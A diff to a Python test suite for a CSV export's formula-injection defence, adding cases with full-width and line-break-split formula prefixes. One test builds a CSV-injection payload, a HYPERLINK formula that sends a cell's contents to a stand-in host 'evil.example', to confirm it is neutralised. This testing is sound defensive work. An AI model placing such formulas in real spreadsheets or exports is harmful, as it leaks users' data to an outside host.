@@ -1,5 +1,7 @@
 """The Configuration Log: append-only, one line whoever writes, and every damage found and named."""
 
+import csv
+import io
 import threading
 from datetime import UTC, date, datetime
 from zoneinfo import ZoneInfo
@@ -397,6 +399,10 @@ def test_the_export_goes_through_all_portions_newest_first(workspace, admin, mon
         "\u00a0=1",
         "\ufeff=1",
         "\u200b+1",
+        "\uff1d1+1",
+        "\uff0b1",
+        "\uff0d1",
+        " \uff20SUM(A1)",
     ],
 )
 def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(cell) -> None:
@@ -405,13 +411,38 @@ def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(cell) -> None:
 
 @pytest.mark.parametrize(
     ("cell", "neutral"),
-    [("Pune;=1+1", "Pune;'=1+1"), ("a; @x;b", "a;' @x;b"), ('a;"=1', "a;'\"=1"), ("=1;-1", "'=1;'-1")],
+    [
+        ("Pune;=1+1", "Pune;'=1+1"),
+        ("a; @x;b", "a;' @x;b"),
+        ('a;"=1', "a;'\"=1"),
+        ("=1;-1", "'=1;'-1"),
+        ("a;\uff1d1", "a;'\uff1d1"),
+        ("a\n=1", "a\n'=1"),
+        ("a\r\n +1\r@x", "a\r\n' +1\r'@x"),
+        ("a\n\t=1", "a\n'\t=1"),
+        ("a;\n=1", "a;\n'=1"),
+        ('a\n"=1', "a\n'\"=1"),
+    ],
 )
-def test_a_formula_behind_a_semicolon_is_neutralised_for_spreadsheets_that_split_there(cell, neutral) -> None:
+def test_a_formula_behind_a_semicolon_or_a_line_end_is_neutralised_for_spreadsheets_that_split_there(
+    cell, neutral
+) -> None:
     assert csv_export.neutralised(cell) == neutral
 
 
-@pytest.mark.parametrize("cell", ["EXSB", "Code: PN1; Name: x", "a;b", "a=1", "a-b", "", "'=1", "0012345678", "1E5"])
+@pytest.mark.parametrize("delimiter", [",", ";"])
+@pytest.mark.parametrize("split", [";", "\n", "\r\n", "\r", ";\n"])
+def test_no_cell_of_an_export_begins_like_a_formula_however_it_is_split(delimiter, split) -> None:
+    evil = f'Tee{split}=HYPERLINK("http://evil.example/?"&A1){split}x'
+    file = "".join(csv_export.lines(["sku", "why", "name"], [["S1", "bad, as it is", evil], [evil, evil, evil]]))
+    cells = [cell for row in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not [cell for cell in cells if cell.lstrip(' "').startswith("=")]
+
+
+@pytest.mark.parametrize(
+    "cell", ["EXSB", "Code: PN1; Name: x", "a;b", "a=1", "a-b", "a\nb=1", "", "'=1", "0012345678", "1E5"]
+)
 def test_harmless_cells_stay_as_they_are(cell) -> None:
     assert csv_export.neutralised(cell) == cell
 
